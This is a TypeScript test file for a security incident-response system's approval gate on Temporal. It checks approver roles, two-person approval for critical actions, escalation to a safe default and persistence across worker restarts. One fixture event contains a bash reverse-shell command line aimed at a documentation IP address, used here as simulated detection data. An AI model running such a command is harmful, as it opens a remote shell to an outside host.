/**
 * The approval gate on real Temporal: Updates with validators bound to the exact action and parameters,
 * the requester never approves, two distinct approvers for critical actions, refusals after a decision,
 * the escalation ladder and the safe default, and approvals surviving a worker restart.
 */
import { randomUUID } from 'node:crypto';
import { WorkflowUpdateFailedError, type Client } from '@temporalio/client';
import { ApplicationFailure } from '@temporalio/common';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { approvalsQuery, resolveSignal } from '../src/contracts/approval.js';
import { statusQuery, type IncidentStatus } from '../src/contracts/incident.js';
import { temporalStarter } from '../intake/incidents.js';
import { decide, parkedThenStopped as parkedAndStopped, waitForApproval } from './helpers/approvals.js';
import { normalized, reverseShell } from './helpers/events.js';
import { startTestSmtp, type TestSmtp } from './helpers/smtp.js';
import { approvalLadder, startWorker, testClient, uniqueQueue, workerEnv } from './helpers/temporal.js';

let client: Client;
let closeClient: () => Promise<void>;
let smtp: TestSmtp;
beforeAll(async () => {
  ({ client, close: closeClient } = await testClient());
  smtp = await startTestSmtp();
});
afterAll(async () => {
  await smtp.close();
  await closeClient();
});

const lead = { id: 'lead-1', role: 'lead' as const };
const host = () => `appr-${randomUUID().slice(0, 8)}`;
const result = (id: string) => client.workflow.getHandle(id).result() as Promise<IncidentStatus>;

async function refusal(p: Promise<unknown>): Promise<string | undefined> {
  try {
    await p;
    return undefined;
  } catch (e) {
    if (e instanceof WorkflowUpdateFailedError && e.cause instanceof ApplicationFailure)
      return e.cause.type ?? 'unknown';
    throw e;
  }
}

async function withIncident(
  extraEnv: Record<string, string>,
  event: ReturnType<typeof reverseShell>,
  fn: (id: string, queue: string) => Promise<void>,
) {
  const queue = uniqueQueue('approval');
  let worker = await startWorker(workerEnv(smtp.port, queue, extraEnv));
  try {
    await temporalStarter(client.connection, client.options.namespace, queue, 5000).start(
      event.incidentId,
      event.correlationKey,
      event.event,
    );
    await fn(event.incidentId, queue);
  } finally {
    await worker.stop();
  }
  return { restart: async () => (worker = await startWorker(workerEnv(smtp.port, queue, extraEnv))) };
}

/**
 * An incident parked on its approval (isolate-host) with the given ladder, then its worker stopped: the
 * worker environment (to start another), the incident and its pending approval.
 */
async function parkedThenStopped(name: string, ladder: [remind: string, escalate: string, deadline: string]) {
  const env = workerEnv(smtp.port, uniqueQueue(name), approvalLadder(...ladder));
  const e = reverseShell(host());
  return { env, e, r: await parkedAndStopped(client, env, e) };
}

describe('approval gate', () => {
  it('refuses wrong parameters, unauthorized roles and the requester; accepts an authorized lead once', async () => {
    await withIncident({}, reverseShell(host()), async (id) => {
      const r = await waitForApproval(client, id);
      expect(await refusal(decide(client, r, lead, 'approve', 'deadbeefdeadbeef'))).toBe('wrong-parameters');
      expect(await refusal(decide(client, r, { id: 'ana-1', role: 'analyst' }))).toBe('unauthorized');
      expect(await refusal(decide(client, r, { id: 'playbook:suspicious-process', role: 'admin' }))).toBe(
        'requester',
      );
      const receipt = await decide(client, r, lead);
      expect(receipt).toMatchObject({ status: 'approved', approvers: ['lead-1'], needed: 1 });
      expect(await refusal(decide(client, r, { id: 'lead-2', role: 'lead' }))).toBe('already-decided');
      const out = await result(id);
      expect(out.actions.find((a) => a.action === 'isolate-host')).toMatchObject({
        status: 'approved',
        detail: { approvers: ['lead-1'], params: { host: r.params.host } },
      });
      // Refusals never reach history through the validator: nothing about them in the result.
      expect(out.timeline.filter((t) => /approved by/.test(t.summary))).toHaveLength(1);
    });
  });

  it('needs two distinct approvers for a critical action, and refuses the same person twice', async () => {
    const ev = normalized('generic', {
      time: '2026-11-26T09:00:00Z',
      host: host(),
      rule: 'Stolen domain credentials used',
      severity: 'critical',
      techniques: ['T1078.002'],
      user: { name: 'svc-backup', domain: 'CORP' },
      process: {
        pid: 4242,
        name: 'bash',
        commandLine: 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1',
        ancestors: [{ name: 'sshd' }],
      },
    });
    await withIncident({}, ev, async (id) => {
      // The playbook asks in order: isolate-host first, then disable-account.
      const isolate = await waitForApproval(client, id);
      expect(isolate.action).toBe('isolate-host');
      await decide(client, isolate, lead, 'deny');
      let critical = await waitForApproval(client, id);
      for (let i = 0; i < 50 && critical.action !== 'disable-account'; i++)
        critical = await waitForApproval(client, id);
      expect(critical).toMatchObject({ action: 'disable-account', class: 'critical', needed: 2 });
      expect(await decide(client, critical, lead)).toMatchObject({
        status: 'pending',
        approvers: ['lead-1'],
      });
      expect(await refusal(decide(client, critical, lead))).toBe('duplicate');
      expect(await decide(client, critical, { id: 'admin-1', role: 'admin' })).toMatchObject({
        status: 'approved',
        approvers: ['lead-1', 'admin-1'],
      });
      const out = await result(id);
      expect(out.actions.map((a) => [a.action, a.status])).toEqual(
        expect.arrayContaining([
          ['isolate-host', 'denied'],
          ['disable-account', 'approved'],
        ]),
      );
    });
  });

  it('reminds, escalates, then applies the safe default and leaves the incident to a human', async () => {
    await withIncident(
      {
        VIGIL_APPROVAL_REMIND_AFTER: '1s',
        VIGIL_APPROVAL_ESCALATE_AFTER: '2s',
        VIGIL_APPROVAL_DEADLINE: '3s',
        VIGIL_ESCALATION_TO: 'leads@test.local',
      },
      reverseShell(host()),
      async (id) => {
        const h = client.workflow.getHandle(id);
        for (let i = 0; i < 100; i++) {
          const s = await h.query(statusQuery);
          if (s.stage === 'needs-human') break;
          await new Promise((r) => setTimeout(r, 200));
        }
        const [approval] = await h.query(approvalsQuery);
        expect(approval).toMatchObject({
          status: 'expired',
          escalation: 2,
          decidedBy: { operator: 'safe-default' },
        });
        const mine = smtp.messages.filter(
          (m) =>
            m.headers.get('x-vigil-incident') === id &&
            m.headers.get('x-vigil-approval') === approval?.approvalId,
        );
        const stages = mine.map((m) => m.subject);
        expect(stages.map((x) => x?.split(':')[0])).toEqual([
          '[Vigil] APPROVAL NEEDED',
          '[Vigil] REMINDER',
          '[Vigil] ESCALATED',
          '[Vigil] EXPIRED (denied by default)',
        ]);
        const escalated = mine.find((m) => /ESCALATED/.test(m.subject ?? ''));
        expect(JSON.stringify(escalated?.to)).toContain('leads@test.local');
        // A late click is refused; the incident waits for a human to resolve it.
        expect(approval && (await refusal(decide(client, approval, lead)))).toBe('already-decided');
        await h.signal(resolveSignal, {
          operator: 'lead-1',
          note: 'host rebuilt by hand',
          at: new Date().toISOString(),
        });
        const out = await result(id);
        expect(out.outcome).toContain('resolved by lead-1: host rebuilt by hand');
        expect(out.actions.find((a) => a.action === 'isolate-host')?.status).toBe('expired');
      },
    );
  });

  it('refuses an approval that arrives after its deadline while the worker was down (the timer fires late)', async () => {
    // The ladder's times all pass while the worker is down (only the reminder's timer was started).
    const { env, e, r } = await parkedThenStopped('approval-late', ['2s', '3s', '4s']);
    // The deadline passes with no worker: the incident cannot apply the safe default yet.
    await new Promise((res) => setTimeout(res, Math.max(0, Date.parse(r.deadline) - Date.now()) + 1500));
    // The approval is sent first; the worker that will handle it (and the late timer) starts after it.
    const late = refusal(decide(client, r, lead));
    const worker = await startWorker(env);
    try {
      expect(await late).toBe('expired');
      // The late timers then run their course: the safe default, and the incident waits for a human.
      const h = client.workflow.getHandle(e.incidentId);
      let s = await h.query(statusQuery);
      for (let i = 0; i < 100 && s.stage !== 'needs-human'; i++) {
        await new Promise((res) => setTimeout(res, 200));
        s = await h.query(statusQuery);
      }
      expect(s.stage).toBe('needs-human');
      const [approval] = await h.query(approvalsQuery);
      expect(approval).toMatchObject({ status: 'expired', decidedBy: { operator: 'safe-default' } });
      expect(s.actions.find((a) => a.action === 'isolate-host')?.status).toBe('expired');
      // Past its deadline, the ladder neither reminds nor escalates late: the safe default applies at once
      // (its steps are times after the request, not durations after one another).
      expect(approval?.escalation).toBe(0);
      expect(s.timeline.filter((t) => /no answer after/.test(t.summary))).toEqual([]);
      await h.terminate('test done');
    } finally {
      await worker.stop();
    }
  });

  it('keeps a pending approval across a worker restart', async () => {
    const { env, e, r } = await parkedThenStopped('approval-restart', ['3m', '4m', '5m']);
    const worker = await startWorker(env);
    try {
      expect(await decide(client, r, lead)).toMatchObject({ status: 'approved' });
      expect((await result(e.incidentId)).actions.find((a) => a.action === 'isolate-host')?.status).toBe(
        'approved',
      );
    } finally {
      await worker.stop();
    }
  });
});
